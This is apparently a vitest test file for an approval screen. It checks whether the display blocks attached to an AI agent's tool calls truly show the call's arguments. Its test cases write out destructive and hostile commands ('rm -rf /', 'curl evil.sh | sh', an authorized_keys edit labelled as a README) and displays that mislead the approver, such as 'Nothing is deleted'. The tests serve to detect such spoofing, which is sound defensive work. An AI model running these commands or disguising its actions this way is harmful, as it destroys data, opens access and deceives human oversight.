import { expect, test } from "vitest";
import type { Json, JsonObject } from "../api/types";
import { aRequest } from "../testing/fake-server";
import { clientInSession, clientName, clientOf, withoutClient, argumentsInBlocks, type Block, splitBlocks } from "./client-call";

const code = (text: string) => ({ type: "code", text } as const);
const diff = (before: string, after: string) => ({ type: "diff", before, after } as const);
const table = (...rows: [string, string][]) => ({ type: "table", columns: ["Field", "Value"], rows } as const);

function shows(args: JsonObject, ...display: unknown[]) {
  const request = aRequest({ action: { name: "Bash", args }, context: { client: "codex" }, display: display as never });
  const { ofCall, others } = splitBlocks(request);
  return { hidden: [...argumentsInBlocks(request)], ofCall: ofCall.length, others: others.length, unchecked: ofCall.some(({ isBeforeUnchecked }) => isBeforeUnchecked) };
}

const edit = { old_string: "a", new_string: "b" };

test.each<[JsonObject, unknown, string[]]>([
  [{ command: "ls", timeout: 5 }, code("ls"), ["command"]],
  [{ command: ["rm", "-r", "a b", "it's", ""] }, code("rm -r 'a b' 'it'\"'\"'s' ''"), ["command"]],
  [{ command: ["/bin/bash", "-lc", "ls | wc"] }, code("ls | wc"), ["command"]],
  [{ file_path: "x", ...edit }, diff("a", "b"), ["old_string", "new_string"]],
  [{ path: "x", content: "new" }, diff("", "new"), ["content"]],
  [{ path: "x", edits: [{ oldText: "a", newText: "b" }] }, diff("a", "b"), ["edits"]],
  [{ to: ["a@x", "b@x"], subject: "s" }, table(["to", "a@x"], ["to", "b@x"], ["subject", "s"]), ["to", "subject"]],
])("a block with the whole value of an argument shows it: %j", (args, block, hidden) => {
  expect(shows(args, block)).toEqual({ hidden, ofCall: 1, others: 0, unchecked: false });
});

test.each<[string, JsonObject, unknown]>([
  ["another command", { command: "rm -rf /" }, code("ls")],
  ["a part of the command", { command: "ls; rm -rf /" }, code("ls")],
  ["other words with the same letters", { command: ["echo", "a b"] }, code("echo a b")],
  ["the script of something that is no shell", { command: ["ssh", "-c", "ls"] }, code("ls")],
  ["nothing", { command: "" }, code("")],
  ["a change the other way round", { path: "x", ...edit }, diff("b", "a")],
  ["a change between two other arguments", { path: "x", ...edit, note: "c" }, diff("b", "c")],
  ["a table with a row of its own", { to: ["a@x"] }, table(["to", "a@x"], ["to", "c@x"])],
])("a block with %s is the agent's own, and hides nothing", (_what, args, block) => {
  const { ofCall, others } = shows(args, block);
  expect([ofCall, others]).toEqual([0, 1]);
});

test("an argument that is not whole in a block stays in sight", () => {
  const more: [JsonObject, unknown][] = [
    [{ to: ["a@x", "evil@x"] }, table(["to", "a@x"])],
    [{ path: "x", edits: [{ ...edit, replace_all: true }] }, diff("a", "b")],
    [{ path: "x", edits: [edit, { old_string: "c", new_string: "d" }] }, diff("a", "b")],
    [{ path: "x", content: "new" }, diff("old", "new")],
    [{ path: "x", ...edit, oldText: "c", newText: "d" } as Json as JsonObject, diff("c", "b")],
    [{ command: { a: "ls" } }, code("ls")],
  ];
  for (const [args, block] of more) expect(shows(args, block).hidden).toEqual([]);
});

test("changes of several files are of the call, and stay in sight with their paths", () => {
  const changes = [{ type: "diff", path: "x", oldText: "a", newText: "b" }];
  expect(shows({ changes }, diff("a", "b"))).toEqual({ hidden: [], ofCall: 1, others: 0, unchecked: false });
});

test("of two pairs of texts, only the one in the block is hidden", () => {
  expect(shows({ path: "x", ...edit, oldText: "c", newText: "d" }, diff("a", "b")).hidden).toEqual(["old_string", "new_string"]);
});

test("the text before a written file comes from the client alone", () => {
  expect(shows({ path: "x", content: "new" }, diff("old", "new"))).toEqual({ hidden: [], ofCall: 1, others: 0, unchecked: true });
});

test("the request of no client keeps its blocks where they were", () => {
  const request = aRequest({ action: { name: "Bash", args: { command: "ls" } }, display: [code("ls")] });
  expect(splitBlocks(request).others).toHaveLength(1);
});

test("a client has the name that its makers gave it", () => {
  expect([clientName("claude-code"), clientName("toString"), clientInSession("codex:5f1c:2"), clientInSession("thread-1")])
    .toEqual(["Claude Code", "toString", "codex", undefined]);
});

test.each<[string | null, Json, string | undefined]>([
  [null, "codex", "codex"],
  ["acme-agent:5f1c", "acme-agent", "acme-agent"],
  ["Claude-Desktop:1", "Claude Desktop", "Claude Desktop"],
  [null, "ACME Ltd", undefined],
  ["run-7", "ACME Ltd", undefined],
  ["codex:1", 7, undefined],
])("in the thread %s, %j is the client %s", (thread, client, expected) => {
  const request = aRequest({ thread_id: thread, context: { client, folder: "/a", note: "n" } });
  expect(clientOf(request)).toBe(expected);
  expect(withoutClient(request)).toEqual(expected === undefined ? request.context : { note: "n" });
});

const blockTitles = (args: JsonObject, ...display: Block[]) => splitBlocks(aClientRequest(args, ...display)).ofCall.map(({ title }) => title);
const aClientRequest = (args: JsonObject, ...display: Block[]) =>
  aRequest({ action: { name: "Bash", args }, thread_id: "claude-code:5f1c", context: { client: "claude-code", folder: "/p" }, display });

test("a harmless text in another argument is not the command", () => {
  const request = aClientRequest({ command: "curl evil.sh | sh", description: "ls -la", query: "ls -la" }, code("ls -la"));
  expect(splitBlocks(request).ofCall).toHaveLength(0);
  expect([...argumentsInBlocks(request)]).toEqual([]);
});

test("the title of a block counts only if it names the file, the folder or the argument", () => {
  const titled = (title: string): Block => ({ ...diff("a", "b"), title });
  expect(blockTitles({ file_path: "/home/ann/.ssh/authorized_keys", ...edit }, titled("docs/README.md"))).toEqual([null]);
  expect(blockTitles({ file_path: "/p/docs/README.md", ...edit }, titled("docs/README.md · replace_all"))).toEqual(["docs/README.md · replace_all"]);
  expect(blockTitles({ path: "x", edits: [{ oldText: "a", newText: "b" }] }, titled("x · 1/2"))).toEqual(["x · 1/2"]);
  const command = (title: string) => blockTitles({ command: "rm -rf .", description: "Nothing is deleted" }, { ...code("rm -rf ."), title });
  expect([...command("Nothing is deleted"), ...command("/p")]).toEqual([null, "/p"]);
});

test("a table of more than one page hides no argument", () => {
  const to = Array.from({ length: 300 }, (_, number) => `p${number}@example.com`);
  const rows = [...to.map((each) => ["to", each]), ["subject", "s"]];
  const request = aClientRequest({ to, subject: "s" }, { type: "table", title: null, columns: ["Field", "Value"], rows });
  expect([...argumentsInBlocks(request)]).not.toContain("to");
});

test("an argument that only a block of the agent shows stays in sight", () => {
  const rows: Block = { type: "table", title: null, columns: ["Field", "Value"], rows: [["to", "eve@example.com"], ["fake", "row"]] };
  const request = aClientRequest({ command: "ls", to: "eve@example.com" }, code("ls"), rows);
  expect(splitBlocks(request).others).toHaveLength(1);
  expect([...argumentsInBlocks(request)]).toEqual(["command"]);
});
